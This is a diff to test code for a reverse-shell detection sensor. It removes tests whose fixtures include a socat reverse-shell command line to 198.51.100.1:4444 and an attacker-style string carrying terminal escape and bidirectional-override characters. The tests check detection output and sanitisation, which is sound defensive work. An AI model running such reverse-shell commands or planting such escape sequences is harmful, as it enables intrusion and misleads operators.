@@ -3,10 +3,11 @@
 //! `data/ecs-8.17-fields.tsv` holds the fields of ECS 8.17 that the sensor writes, with their types.
 #![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a panic is how a test fails")]
 
+mod block;
 mod life;
 mod template;
 
-use sensor::alert::{Finding, document, mark, repeated, text};
+use sensor::alert::{Finding, document, repeated};
 use sensor::detect::rule::REVERSE_SHELL_VIA_CHILD;
 use sensor::event::ecs::{ECS_VERSION, Extras, Origin, ParentProgram, ParentSource};
 use sensor::event::facts::Field;
@@ -302,58 +303,6 @@ fn arguments_that_had_to_be_assumed_are_named() {
     let message = alert["message"].as_str().unwrap();
     assert!(message.ends_with("; some of the arguments could not be searched and are taken as matching"));
     assert_eq!(faults(&alert), [""; 0]);
-}
-
-#[test]
-fn what_an_attacker_writes_does_not_reach_the_terminal_as_it_is() {
-    let evil = "\u{1b}]0;owned\u{7}\n\u{202e}gnp.\u{200b}\r";
-    let extras = Extras { user: Some(evil.to_owned()), ..extras() };
-    let (connection, exec) =
-        (connection(Direction::Attempted, &extras), exec(&["bash", "-i", evil, &"x".repeat(9999)], &extras));
-    let alert = alert(&connection, &exec);
-    for shown in [alert["message"].as_str().unwrap().to_owned(), text::block(&alert).replace('\n', "")] {
-        assert!(!shown.contains(|one: char| one.is_control() || ['\u{202e}', '\u{200b}'].contains(&one)), "{shown:?}");
-        assert!(shown.contains(r"\u{1b}]0;owned\u{7}\u{a}\u{202e}gnp.\u{200b}\u{d}"), "{shown}");
-        assert!(shown.len() < 3000);
-    }
-    assert_eq!(alert["process"]["args"][2], json!(evil), "the document keeps what it was given");
-}
-
-#[test]
-fn the_block_for_people() {
-    let (connection, exec) = (connection(Direction::Attempted, &extras()), exec(&["bash", "-i"], &extras()));
-    let alert = alert(&connection, &exec);
-    let id = alert["event"]["id"].as_str().unwrap();
-    let container = "c".repeat(64);
-    let expected = format!(
-        "ALERT medium 47: Potential Reverse Shell via Child (reverse-shell-via-child)
-  time        2026-05-28T20:26:42.013000001Z
-  what        bash (pid 4242, user www-data) executed \"bash -i\" 13 ms after the same process connected to 198.51.100.1:4444
-  executable  /usr/bin/bash
-  command     bash -i
-  parent      socat1 (pid 7): socat TCP:198.51.100.1:4444 EXEC:sh
-  connection  10.0.0.9:40000 -> 198.51.100.1:4444, attempted
-  user        www-data
-  host        web1
-  container   {container}
-  alert id    {id}
-
-"
-    );
-    assert_eq!(text::block(&alert), expected);
-}
-
-#[test]
-fn an_alert_is_marked_with_what_was_lost_before_it() {
-    let (connection, exec) = (connection(Direction::Attempted, &extras()), exec(&["bash", "-i"], &extras()));
-    let lost = life::losses();
-    let mut marked = alert(&connection, &exec);
-    mark(&mut marked, "lost", lost.to_json());
-    assert_eq!(marked["sensor"]["lost"], lost.to_json());
-    let line = "\n  lost before elasticsearch: documents_dropped: 1, exec: ring_full: 2\n";
-    assert!(text::block(&marked).contains(line), "{}", text::block(&marked));
-    let unmarked = alert(&connection, &exec);
-    assert!(unmarked["sensor"].get("lost").is_none() && !text::block(&unmarked).contains("lost"));
 }
 
 #[test]
